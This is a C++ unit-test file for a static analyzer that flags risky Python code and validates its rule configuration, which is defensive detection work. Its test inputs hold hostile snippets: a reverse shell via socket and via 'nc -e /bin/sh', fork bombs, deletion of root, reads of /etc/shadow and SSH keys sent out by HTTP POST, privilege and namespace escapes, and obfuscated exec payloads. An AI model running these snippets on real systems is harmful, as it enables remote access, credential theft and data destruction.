// Analysis and rule families, through the shipped rules and config; plus config validation
// and verdict steering.
#include <gtest/gtest.h>

#include <string>

#include "sandboxrun/assess.hpp"
#include "assess/assess_rules.hpp"
#include "sandboxrun/error.hpp"
#include "test_util.hpp"

using namespace sandboxrun;
using test_util::TempDir;

namespace {

const std::filesystem::path kRoot = SANDBOXRUN_SOURCE_DIR;

const SecurityConfig& config() {
  static const SecurityConfig c = load_security_config(kRoot / "config/security.yaml", kRoot);
  return c;
}

Assessment run(std::string_view src) { return assess_source(src, config()); }

bool has(const Assessment& a, std::string_view rule) {
  for (const auto& f : a.findings)
    if (f.rule == rule) return true;
  return false;
}

std::string dump(const Assessment& a) { return a.to_json().dump(1); }

}  // namespace

TEST(AssessImports, AliasesResolve) {
  EXPECT_TRUE(has(run("import subprocess as sp\nsp.run(c, shell=True)\n"), "SR-PROC-003"));
  EXPECT_TRUE(has(run("from os import system as s\ns(cmd)\n"), "SR-PROC-001"));
  EXPECT_TRUE(has(run("from os import *\nsystem(cmd)\n"), "SR-PROC-001"));
  EXPECT_TRUE(has(run("import os.path\nos.system(cmd)\n"), "SR-PROC-001"));
  EXPECT_TRUE(has(run("m = __import__('os')\nm.system(cmd)\n"), "SR-PROC-001"));
  EXPECT_TRUE(has(run("import importlib\nm = importlib.import_module('os')\nm.system(c)\n"), "SR-PROC-001"));
  EXPECT_TRUE(has(run("import os\nrun = os.system\nrun(cmd)\n"), "SR-PROC-001"));
  EXPECT_TRUE(has(run("import posix\nposix.system(cmd)\n"), "SR-PROC-001"));
  EXPECT_TRUE(has(run("import subprocess\nsubprocess.os.system(cmd)\n"), "SR-PROC-001"));
  // Unrelated objects with the same method names are not the module.
  EXPECT_FALSE(has(run("system(cmd)\nself.os_system(cmd)\n"), "SR-PROC-001"));
  // A local definition shadows the builtin.
  EXPECT_FALSE(has(run("def eval(x):\n  return x\neval(data)\n"), "SR-EXEC-001"));
}

TEST(AssessCalls, KeywordArguments) {
  EXPECT_TRUE(has(run("import subprocess\nsubprocess.Popen(cmd, shell=True)\n"), "SR-PROC-003"));
  EXPECT_FALSE(has(run("import subprocess\nsubprocess.Popen(cmd, shell=False)\n"), "SR-PROC-003"));
  EXPECT_FALSE(has(run("import subprocess\nsubprocess.Popen(['ls', '-l'], shell=True)\n"), "SR-PROC-003"));
  EXPECT_TRUE(has(run("import subprocess\nsubprocess.Popen(['ls', '-l'], shell=True)\n"), "SR-PROC-004"));
}

TEST(AssessDeserialization, YamlAndPickle) {
  EXPECT_TRUE(has(run("import yaml\nyaml.load(f)\n"), "SR-DESER-002"));
  EXPECT_TRUE(has(run("import yaml\nyaml.load(f, Loader=yaml.Loader)\n"), "SR-DESER-002"));
  EXPECT_FALSE(has(run("import yaml\nyaml.load(f, Loader=yaml.SafeLoader)\n"), "SR-DESER-002"));
  EXPECT_FALSE(has(run("import yaml\nfrom yaml import CSafeLoader\nyaml.load(f, CSafeLoader)\n"), "SR-DESER-002"));
  EXPECT_FALSE(has(run("import yaml\nyaml.safe_load(f)\n"), "SR-DESER-002"));
  EXPECT_TRUE(has(run("import pickle\npickle.loads(b)\n"), "SR-DESER-001"));
  EXPECT_TRUE(has(run("from pickle import loads as l\nl(b)\n"), "SR-DESER-001"));
  EXPECT_EQ(run("import pickle\npickle.loads(b)\n").level, RiskLevel::medium);
}

TEST(AssessExec, EvalExecCompile) {
  EXPECT_TRUE(has(run("eval(user)\n"), "SR-EXEC-001"));
  EXPECT_TRUE(has(run("exec(compile(src, 'f', 'exec'))\n"), "SR-EXEC-001"));
  EXPECT_TRUE(has(run("eval('1+1')\n"), "SR-EXEC-002"));
  EXPECT_FALSE(has(run("ast.literal_eval(s)\nmodel.eval()\nre.compile(p)\n"), "SR-EXEC-001"));
  // The code in an exec'd constant is assessed as code.
  Assessment a = run("exec(\"import os\\nos.setuid(0)\")\n");
  EXPECT_EQ(a.level, RiskLevel::blocked) << dump(a);
  EXPECT_TRUE(has(run("().__class__.__base__.__subclasses__()\n"), "SR-EXEC-005"));
  // Passed around instead of called.
  EXPECT_TRUE(has(run("import os\nlist(map(os.system, cmds))\n"), "SR-EXEC-007"));
  EXPECT_TRUE(has(run("(lambda f: f(code))(exec)\n"), "SR-EXEC-007"));
  EXPECT_FALSE(has(run("eval(x)\nimport os\nos.system(c)\n"), "SR-EXEC-007"));
}

TEST(AssessStringsAndComments, AreNotCalls) {
  Assessment a = run(
      "\"\"\"Never os.system('rm -rf /') here.\"\"\"\n"
      "# eval(input())\n"
      "msg = 'call eval(x) and pickle.loads(y)'\n"
      "x = f'{msg} exec(z)'\n");
  EXPECT_EQ(a.level, RiskLevel::low) << dump(a);
  EXPECT_TRUE(a.findings.empty()) << dump(a);
}

TEST(AssessStrings, SensitivePathsInCode) {
  EXPECT_TRUE(has(run("open('/etc/shadow').read()\n"), "SR-CRED-001"));
  EXPECT_TRUE(has(run("p = '~/.ssh/id_rsa'\n"), "SR-CRED-002"));
  EXPECT_TRUE(has(run("d = os.path.expanduser('~/.ssh')\n"), "SR-CRED-006"));
  EXPECT_EQ(run("k = os.path.expanduser('~/.ssh/known_hosts')\n").level, RiskLevel::low);
  // A docstring is documentation, not a path in use...
  EXPECT_FALSE(has(run("def f():\n    \"\"\"Reads /etc/shadow.\"\"\"\n"), "SR-CRED-001"));
  // ...unless the program reads its docstrings.
  EXPECT_EQ(run("def f():\n    \"\"\"import os; os.setuid(0)\"\"\"\nexec(f.__doc__)\n").level, RiskLevel::blocked);
}

TEST(AssessCrypto, WeakHashesAndTls) {
  EXPECT_TRUE(has(run("import hashlib\nhashlib.md5(b)\n"), "SR-CRYPTO-001"));
  EXPECT_FALSE(has(run("import hashlib\nhashlib.md5(b, usedforsecurity=False)\n"), "SR-CRYPTO-001"));
  EXPECT_TRUE(has(run("import requests\nrequests.get(u, verify=False)\n"), "SR-CRYPTO-003"));
  EXPECT_TRUE(has(run("import ssl\nctx = ssl._create_unverified_context()\n"), "SR-CRYPTO-004"));
}

TEST(AssessMisc, TempPermissionsSqlXmlArchives) {
  EXPECT_TRUE(has(run("import tempfile\ntempfile.mktemp()\n"), "SR-TMP-001"));
  EXPECT_TRUE(has(run("import os\nos.chmod(p, 0o777)\n"), "SR-PERM-001"));
  EXPECT_FALSE(has(run("import os\nos.chmod(p, 0o755)\n"), "SR-PERM-001"));
  EXPECT_TRUE(has(run("cur.execute(\"SELECT * FROM t WHERE a='%s'\" % a)\n"), "SR-SQL-001"));
  EXPECT_TRUE(has(run("cur.execute(f\"DELETE FROM t WHERE id={i}\")\n"), "SR-SQL-001"));
  EXPECT_FALSE(has(run("cur.execute('SELECT * FROM t WHERE a=?', (a,))\n"), "SR-SQL-001"));
  EXPECT_TRUE(has(run("import xml.etree.ElementTree as ET\nET.parse(f)\n"), "SR-XML-001"));
  EXPECT_TRUE(has(run("import tarfile\nt = tarfile.open(p)\nt.extractall(d)\n"), "SR-ARCH-001"));
  EXPECT_FALSE(has(run("import tarfile\nt = tarfile.open(p)\nt.extractall(d, filter='data')\n"), "SR-ARCH-001"));
  EXPECT_TRUE(has(run("import telnetlib\n"), "SR-NET-004"));
}

TEST(AssessBlocked, ReverseShells) {
  EXPECT_EQ(run("import socket,os,subprocess\ns=socket.socket()\ns.connect((h,p))\n"
                "os.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n").level,
            RiskLevel::blocked);
  EXPECT_EQ(run("import os\nos.system('nc -e /bin/sh 10.0.0.1 4444')\n").level, RiskLevel::blocked);
  // Sockets alone, or dup2 for logging, are not a reverse shell.
  EXPECT_NE(run("import socket\ns = socket.create_connection((h, 80))\ns.sendall(b'x')\n").level, RiskLevel::blocked);
  EXPECT_NE(run("import os\nos.dup2(logfd, 2)\n").level, RiskLevel::blocked);
}

TEST(AssessBlocked, ForkBombsNeedAnUnboundedLoop) {
  EXPECT_TRUE(has(run("import os\nwhile True:\n    os.fork()\n"), "SR-PROC-020"));
  EXPECT_TRUE(has(run("import os\nwhile (1):\n    if x:\n        os.fork()\n"), "SR-PROC-020"));
  EXPECT_TRUE(has(run("import os, itertools\nfor _ in itertools.count():\n    os.fork()\n"), "SR-PROC-020"));
  EXPECT_FALSE(has(run("import os\nfor i in range(4):\n    os.fork()\n"), "SR-PROC-020"));
  EXPECT_FALSE(has(run("import os\nwhile n > 0:\n    os.fork()\n    n -= 1\n"), "SR-PROC-020"));
  EXPECT_FALSE(has(run("import os\nwhile True:\n    pass\nos.fork()\n"), "SR-PROC-020"));
  // A loop left by break/return/exit ends; a break of an inner loop does not end the outer one.
  EXPECT_FALSE(has(run("import os\nwhile True:\n    os.fork()\n    if done():\n        break\n"), "SR-PROC-020"));
  EXPECT_FALSE(has(run("import os\nwhile 1: os.fork(); break\n"), "SR-PROC-020"));
  EXPECT_FALSE(has(run("import os, sys\nwhile True:\n    os.fork()\n    sys.exit(0)\n"), "SR-PROC-020"));
  EXPECT_FALSE(has(run("import os\ndef f():\n    while True:\n        os.fork()\n        return 1\n"), "SR-PROC-020"));
  EXPECT_TRUE(has(run("import os\nwhile True:\n    for i in range(3):\n        os.fork()\n        break\n"), "SR-PROC-020"));
  EXPECT_TRUE(has(run("import multiprocessing as mp\nwhile True:\n    p = mp.Process(target=f)\n    p.start()\n"), "SR-PROC-020"));
  EXPECT_FALSE(has(run("import multiprocessing as mp\nwhile True:\n    p = mp.Process(target=f)\n    p.start()\n    if q.empty():\n        break\n"), "SR-PROC-020"));
  // Recursion without a return is a loop too.
  EXPECT_TRUE(has(run("import os\ndef bomb():\n    os.fork()\n    bomb()\nbomb()\n"), "SR-PROC-020"));
  EXPECT_FALSE(has(run("import os\ndef f(n):\n    if n == 0:\n        return\n    os.fork()\n    f(n - 1)\n"), "SR-PROC-020"));
  // A function defined in a loop body is not the loop body.
  EXPECT_FALSE(has(run("import os\nwhile True:\n    def f():\n        os.fork()\n    break\n"), "SR-PROC-020"));
  // The child's os._exit does not end the parent's loop; a parent that waits for each child does.
  EXPECT_TRUE(has(run("import os\nwhile True:\n    pid = os.fork()\n    if pid == 0:\n        work()\n        os._exit(0)\n"),
                  "SR-PROC-020"));
  EXPECT_FALSE(has(run("import os\nwhile True:\n    pid = os.fork()\n    if pid == 0:\n        work()\n        os._exit(0)\n"
                       "    os.waitpid(pid, 0)\n"),
                   "SR-PROC-020"));
  EXPECT_FALSE(has(run("import multiprocessing as mp\nwhile True:\n    p = mp.Process(target=f)\n    p.start()\n    p.join()\n"),
                   "SR-PROC-020"));
}

TEST(AssessBlocked, KernelAndNamespaceEscapes) {
  EXPECT_EQ(run("open('/proc/sys/kernel/core_pattern', 'w').write(x)\n").level, RiskLevel::blocked);
  EXPECT_NE(run("open('/proc/sys/kernel/osrelease').read()\n").level, RiskLevel::blocked);
  EXPECT_EQ(run("import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10000000)\n").level, RiskLevel::blocked);
  EXPECT_EQ(run("import ctypes\nctypes.CDLL('libc.so.6').mount(a, b, c, 0, None)\n").level, RiskLevel::blocked);
  EXPECT_EQ(run("import os\nos.setuid(0)\n").level, RiskLevel::blocked);
  EXPECT_NE(run("import os\nos.setuid(1000)\n").level, RiskLevel::blocked);
}

TEST(AssessBlocked, DestroyingRoot) {
  EXPECT_EQ(run("import shutil\nshutil.rmtree('/')\n").level, RiskLevel::blocked);
  EXPECT_NE(run("import shutil\nshutil.rmtree('/tmp/work')\n").level, RiskLevel::blocked);
  EXPECT_EQ(run("import subprocess\nsubprocess.run(['rm', '-rf', '/'])\n").level, RiskLevel::blocked);
  EXPECT_NE(run("import subprocess\nsubprocess.run(['rm', '-rf', '/tmp/x'])\n").level, RiskLevel::blocked);
}

TEST(AssessBlocked, CredentialExfiltration) {
  EXPECT_EQ(run("import requests\nk = open('/home/u/.ssh/id_rsa').read()\nrequests.post(u, data=k)\n").level,
            RiskLevel::blocked);
  EXPECT_EQ(run("import os, requests\nrequests.post(u, json=dict(os.environ))\n").level, RiskLevel::blocked);
  // One API token used with its API is ordinary.
  EXPECT_NE(run("import os, requests\nt = os.environ['GITHUB_TOKEN']\nrequests.get(u, headers={'a': t})\n").level,
            RiskLevel::blocked);
}

TEST(AssessObfuscation, Detectors) {
  EXPECT_TRUE(has(run("import os\ngetattr(os, 'sys' + 'tem')('id')\n"), "SR-OBF-001"));
  EXPECT_TRUE(has(run("import os\ngetattr(os, 'sys' + 'tem')('id')\n"), "SR-PROC-002"));
  EXPECT_TRUE(has(run("getattr(obj, name)\n"), "SR-OBF-002"));
  EXPECT_TRUE(has(run("globals()['__builtins__'].eval(x)\n"), "SR-OBF-003"));
  EXPECT_TRUE(has(run("globals()['__builtins__'].eval(x)\n"), "SR-EXEC-001"));
  EXPECT_TRUE(has(run("__builtins__.__dict__['ev' + 'al'](x)\n"), "SR-EXEC-001"));
  EXPECT_TRUE(has(run("m = __import__(name)\n"), "SR-OBF-004"));
  EXPECT_TRUE(has(run("import base64\nexec(base64.b64decode(blob))\n"), "SR-EXEC-003"));
  EXPECT_TRUE(has(run("import zlib\ncode = zlib.decompress(data)\nexec(code)\n"), "SR-EXEC-003"));
  EXPECT_TRUE(has(run(std::string(1200, '#') + "\n"), "SR-OBF-006"));
  std::string blob;
  for (uint32_t x = 1; blob.size() < 400;) {
    x = x * 1103515245u + 12345u;
    blob += "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[(x >> 16) % 64];
  }
  EXPECT_TRUE(has(run("x = '" + blob + "'\n"), "SR-OBF-008"));
  EXPECT_FALSE(has(run("x = '" + std::string(400, 'A') + "'\n"), "SR-OBF-008"));
  EXPECT_TRUE(has(run("# -*- coding: utf-7 -*-\nx = 1\n"), "SR-OBF-010"));
  EXPECT_FALSE(has(run("# -*- coding: utf-8 -*-\nx = 1\n"), "SR-OBF-010"));
  EXPECT_TRUE(has(run("exec('))(dwpteg.so ;so tropmi'[::-1])\n"), "SR-OBF-012"));
  EXPECT_TRUE(has(run("__import__(chr(111) + chr(115)).system(c)\n"), "SR-PROC-001"));
}

TEST(AssessDecoders, Base64HexRot13) {
  std::string out;
  EXPECT_TRUE(assess::decode_base64("aW1wb3J0IG9z", out));
  EXPECT_EQ(out, "import os");
  EXPECT_TRUE(assess::decode_base64("aW1wb3J0IG9zCg", out));  // padding may be missing
  EXPECT_EQ(out, "import os\n");
  EXPECT_FALSE(assess::decode_base64("not base64!", out));
  EXPECT_TRUE(assess::decode_hex("696d706f7274", out));
  EXPECT_EQ(out, "import");
  EXPECT_FALSE(assess::decode_hex("6g", out));
  EXPECT_FALSE(assess::decode_hex("123", out));
  EXPECT_EQ(assess::rot13("vzcbeg bf"), "import os");
  EXPECT_FALSE(assess::looks_like_text(std::string("\0\1\2", 3)));
  EXPECT_GT(assess::shannon_entropy("abcdefgh"), 2.9);
  EXPECT_EQ(assess::shannon_entropy("aaaa"), 0.0);
}

TEST(AssessFindings, CarryLinesAndJson) {
  Assessment a = run("x = 1\n\nimport pickle\npickle.loads(b)\n");
  ASSERT_FALSE(a.findings.empty());
  EXPECT_EQ(a.findings[0].line, 4);
  auto j = a.to_json();
  EXPECT_EQ(j["level"], "MEDIUM");
  EXPECT_EQ(j["score"], a.score);
  EXPECT_EQ(j["findings"][0]["rule"], "SR-DESER-001");
  EXPECT_EQ(j["findings"][0]["line"], 4);
  EXPECT_TRUE(j["findings"][0].contains("severity"));
  EXPECT_TRUE(j["findings"][0].contains("message"));
}

TEST(AssessLevels, NamesRoundTrip) {
  for (auto l : {RiskLevel::low, RiskLevel::medium, RiskLevel::high, RiskLevel::blocked})
    EXPECT_EQ(parse_risk_level(to_string(l)), l);
  EXPECT_EQ(parse_risk_level("blocked"), RiskLevel::blocked);
  EXPECT_FALSE(parse_risk_level("severe"));
}

// ---- verdict steering ------------------------------------------------------------------

TEST(AssessSteer, DefaultMapping) {
  const auto& c = config();
  EXPECT_EQ(steer_trust(RiskLevel::low, Trust::trusted, false, c), Trust::trusted);
  EXPECT_EQ(steer_trust(RiskLevel::low, Trust::untrusted, false, c), Trust::untrusted);
  EXPECT_EQ(steer_trust(RiskLevel::medium, Trust::trusted, false, c), Trust::unknown);
  EXPECT_EQ(steer_trust(RiskLevel::medium, Trust::untrusted, false, c), Trust::untrusted);
  EXPECT_EQ(steer_trust(RiskLevel::high, Trust::trusted, false, c), Trust::untrusted);
  EXPECT_EQ(steer_trust(RiskLevel::blocked, Trust::trusted, false, c), std::nullopt);
  EXPECT_EQ(steer_trust(RiskLevel::blocked, Trust::trusted, true, c), Trust::untrusted);
}

TEST(AssessSteer, ConfigurableMapping) {
  TempDir d;
  auto yaml = d.write("security.yaml",
                      "rules: " + (kRoot / "policies/assess-rules.yaml").string() +
                          "\nverdicts: {low: unknown, medium: untrusted, high: untrusted, blocked: untrusted}\n");
  auto c = load_security_config(yaml, kRoot);
  EXPECT_EQ(steer_trust(RiskLevel::low, Trust::trusted, false, c), Trust::unknown);
  EXPECT_EQ(steer_trust(RiskLevel::blocked, Trust::trusted, false, c), Trust::untrusted);
}

// ---- configuration errors ----------------------------------------------------------------

namespace {
std::string config_error(const std::string& yaml_text, const std::string& rules_text = {}) {
  TempDir d;
  std::string y = yaml_text;
  if (!rules_text.empty()) d.write("rules.yaml", rules_text);
  auto p = d.write("security.yaml", y);
  try {
    load_security_config(p, kRoot);
  } catch (const Error& e) {
    return e.describe();
  }
  return "no error";
}
const std::string kRules = "rules: policies/assess-rules.yaml\n";
const std::string kMini =
    "version: 1\nrules:\n  - {id: T1, severity: high, score: 40, message: m, match: {call: [os.system]}}\n";
}  // namespace

TEST(AssessConfig, RulesPathResolvesNextToConfigThenProjectRoot) {
  TempDir d;
  d.write("rules.yaml", kMini);
  auto c = load_security_config(d.write("security.yaml", "rules: rules.yaml\n"), kRoot);
  EXPECT_EQ(c.rules_path, d.path() / "rules.yaml");
  auto c2 = load_security_config(d.write("security.yaml", kRules), kRoot);
  EXPECT_EQ(c2.rules_path, kRoot / "policies/assess-rules.yaml");
}

TEST(AssessConfig, ErrorsNameFileKeyAndExpectation) {
  std::string e = config_error(kRules + "thresholds: {medium: 10, hihg: 40}\n");
  EXPECT_NE(e.find("security.yaml"), std::string::npos) << e;
  EXPECT_NE(e.find("thresholds.hihg"), std::string::npos) << e;
  EXPECT_NE(e.find("unknown key"), std::string::npos) << e;
  EXPECT_NE(e.find("expected one of the known keys (medium, high)"), std::string::npos) << e;

  e = config_error(kRules + "thresholds: {medium: 50, high: 40}\n");
  EXPECT_NE(e.find("thresholds.high"), std::string::npos) << e;
  e = config_error(kRules + "verdicts: {medium: maybe}\n");
  EXPECT_NE(e.find("verdicts.medium"), std::string::npos) << e;
  EXPECT_NE(e.find("refuse"), std::string::npos) << e;
  e = config_error(kRules + "verdicts: {low: untrusted, medium: trusted}\n");
  EXPECT_NE(e.find("looser"), std::string::npos) << e;
  e = config_error(kRules + "limits: {max_bytes: lots}\n");
  EXPECT_NE(e.find("limits.max_bytes"), std::string::npos) << e;
  e = config_error(kRules + "bandit: {enabled: perhaps}\n");
  EXPECT_NE(e.find("bandit.enabled"), std::string::npos) << e;
  e = config_error("rules: nowhere.yaml\n");
  EXPECT_NE(e.find("nowhere.yaml"), std::string::npos) << e;
  e = config_error("thresholds: {medium: 1}\n");
  EXPECT_NE(e.find("security.yaml:1: key 'rules'"), std::string::npos) << e;
  EXPECT_NE(e.find("the key is missing"), std::string::npos) << e;
  e = config_error("rules: [unclosed\n");
  EXPECT_NE(e.find("security.yaml:2: invalid YAML"), std::string::npos) << e;
}

TEST(AssessConfig, RuleFileErrors) {
  auto err = [](const std::string& rules) { return config_error("rules: rules.yaml\n", rules); };
  std::string e = err("version: 1\nrules:\n  - {id: A, severity: severe, score: 1, message: m, match: {call: x}}\n");
  EXPECT_NE(e.find("rule 'A'.severity"), std::string::npos) << e;
  e = err("version: 1\nrules:\n  - {id: A, severity: low, score: 1, message: m, match: {call: x, import: y}}\n");
  EXPECT_NE(e.find("exactly one"), std::string::npos) << e;
  e = err("version: 1\nrules:\n  - {id: A, severity: low, score: 1, message: m, match: {detector: magic}}\n");
  EXPECT_NE(e.find("unknown detector 'magic'"), std::string::npos) << e;
  e = err("version: 1\nrules:\n  - {id: A, severity: low, score: 1, message: m, match: {all_of: [nope]}}\n");
  EXPECT_NE(e.find("unknown tag 'nope'"), std::string::npos) << e;
  e = err("version: 1\nactuators: [nope]\nrules:\n  - {id: A, severity: low, score: 1, message: m, match: {call: x}}\n");
  EXPECT_NE(e.find("actuators"), std::string::npos) << e;
  EXPECT_NE(e.find("unknown tag 'nope'"), std::string::npos) << e;
  e = err("version: 1\nrules:\n  - {id: A, severity: low, score: 1, message: m, match: {string: {regex: '(('}}}\n");
  EXPECT_NE(e.find("bad regular expression"), std::string::npos) << e;
  e = err("version: 1\nrules:\n  - {id: A, severity: low, score: 1, message: m, match: {call: x}}\n"
          "  - {id: A, severity: low, score: 1, message: m, match: {call: y}}\n");
  EXPECT_NE(e.find("duplicate id"), std::string::npos) << e;
  e = err("version: 1\nrules:\n  - {id: A, severity: low, score: 1, mesage: m, match: {call: x}}\n");
  EXPECT_NE(e.find("rule 'A'.mesage"), std::string::npos) << e;
  e = err("version: 1\nrules:\n  - {id: A, severity: low, score: 1, message: m, match: {call: x, args: [{contains: a}]}}\n");
  EXPECT_NE(e.find("no argument selected"), std::string::npos) << e;
  e = err("version: 1\nrules:\n  - {id: A, severity: low, score: 1, message: m, match: {string: {contains: [x], acts_on: [nope]}}}\n");
  EXPECT_NE(e.find("rule 'A'.match.string.acts_on"), std::string::npos) << e;
  EXPECT_NE(e.find("unknown tag 'nope'"), std::string::npos) << e;
  e = err("version: 1\nrules:\n  - {id: A, severity: low, score: 1, message: m, match: {string: {contains: [x], flows: [disk]}}}\n");
  EXPECT_NE(e.find("rule 'A'.match.string.flows"), std::string::npos) << e;
  EXPECT_NE(e.find("host, secret, environ"), std::string::npos) << e;
}

TEST(AssessConfig, UserRuleWithoutRecompiling) {
  TempDir d;
  d.write("rules.yaml",
          "version: 1\nrules:\n"
          "  - id: LOCAL-1\n    severity: critical\n    score: 100\n    message: no telemetry\n"
          "    match: {call: [telemetry.send]}\n");
  auto c = load_security_config(d.write("security.yaml", "rules: rules.yaml\n"), kRoot);
  Assessment a = assess_source("import telemetry as t\nt.send(1)\n", c);
  EXPECT_EQ(a.level, RiskLevel::blocked);
  ASSERT_EQ(a.findings.size(), 1u);
  EXPECT_EQ(a.findings[0].rule, "LOCAL-1");
}

TEST(AssessRules, GlobMatch) {
  using assess::glob_match;
  EXPECT_TRUE(glob_match("ctypes.*.mount", "ctypes.CDLL().mount"));
  EXPECT_FALSE(glob_match("ctypes.*.mount", "ctypes.CDLL().umount2"));
  EXPECT_TRUE(glob_match("os.exec*", "os.execvpe"));
  EXPECT_TRUE(glob_match("*", ""));
  EXPECT_FALSE(glob_match("a*b", "acbd"));
  EXPECT_TRUE(glob_match("*.execute", "cursor.execute"));
}

TEST(AssessRules, StringRulesFindTheirNeedlesAnywhereInALiteral) {
  // More than 64 string rules (the engine keeps a bit per rule), a one-byte needle, needles at
  // the start and the end of a literal, and a rule with a regex only.
  std::string rules = "version: 1\nrules:\n";
  for (int i = 0; i < 70; ++i)
    rules += "  - {id: S" + std::to_string(i) + ", severity: low, score: 1, message: m, match: {string: {contains: [\"n" +
             std::to_string(i) + "_\", \"w" + std::to_string(i) + "w\"]}}}\n";
  rules += "  - {id: ONE, severity: low, score: 1, message: m, match: {string: {contains: [\"q\"]}}}\n"
           "  - {id: RE, severity: low, score: 1, message: m, match: {string: {regex: \"^zz\"}}}\n";
  TempDir d;
  d.write("rules.yaml", rules);
  const auto c = load_security_config(d.write("security.yaml", "rules: rules.yaml\n"), kRoot);
  auto fired = [&](std::string_view src) {
    std::string ids;
    for (const auto& f : assess_source(src, c).findings) ids += (ids.empty() ? "" : " ") + f.rule;
    return ids;
  };
  EXPECT_EQ(fired("x = 'n65_'\n"), "S65");
  EXPECT_EQ(fired("x = 'a w3w'\n"), "S3");
  EXPECT_EQ(fired("x = 'n1_ and n69_'\n"), "S1 S69");
  EXPECT_EQ(fired("x = 'q'\n"), "ONE");
  EXPECT_EQ(fired("x = 'zzn7'\n"), "RE");
  EXPECT_EQ(fired("x = 'n7'\ny = 'w3'\nz = 'Q'\n"), "");
}

TEST(AssessRules, ExceptFlowsSkipsAnArgumentThatCarriesOnlyThoseKinds) {
  TempDir d;
  d.write("rules.yaml",
          "version: 1\nrules:\n"
          "  - {id: U, severity: low, score: 1, message: m, match: {call: [pickle.loads], args: [{index: 0, except_flows: [own]}]}}\n");
  const auto c = load_security_config(d.write("security.yaml", "rules: rules.yaml\n"), kRoot);
  auto fired = [&](std::string_view src) { return !assess_source(src, c).findings.empty(); };
  EXPECT_FALSE(fired("import pickle\nstate = dict(a=1)\nb = pickle.dumps(state)\npickle.loads(b)\n"));
  EXPECT_TRUE(fired("import pickle, sys\npickle.loads(sys.stdin.buffer.read())\n"));
  EXPECT_TRUE(fired("import pickle\npickle.loads()\n")) << "an absent argument carries nothing to except";
  // Own bytes mixed with what the network sent: not only own.
  EXPECT_TRUE(fired("import pickle, socket\ns = socket.socket()\nstate = dict(a=1)\nb = pickle.dumps(state) + s.recv(9)\npickle.loads(b)\n"));
}

TEST(AssessRules, StringRulesWithFlowsNameWhereTheHostsDataLives) {
  // `flows` on a string rule: the literal is a path of those kinds, as the analyzer classes a
  // path it reads (flow_of_path), through the compiled-rules encoding like every other field.
  TempDir d;
  d.write("rules.yaml",
          "version: 1\nrules:\n"
          "  - {id: HOST, severity: low, score: 1, message: m, match: {string: {contains: [/], flows: [host]}}}\n"
          "  - {id: KEY, severity: low, score: 1, message: m, match: {string: {contains: [/], flows: [secret]}}}\n");
  const auto c = load_security_config(d.write("security.yaml", "rules: rules.yaml\n"), kRoot);
  auto fired = [&](std::string_view src) {
    std::string ids;
    for (const auto& f : assess_source(src, c).findings) ids += (ids.empty() ? "" : " ") + f.rule;
    return ids;
  };
  EXPECT_EQ(fired("p = '/etc/os-release'\n"), "HOST");
  EXPECT_EQ(fired("p = '/proc/cpuinfo'\nq = '/root'\n"), "HOST HOST");
  EXPECT_EQ(fired("p = '/home/bob/.ssh/id_rsa'\n"), "KEY");
  EXPECT_EQ(fired("p = 'data/etc/x.csv'\nq = '/tmp/out'\nr = 'a/b'\n"), "");
}
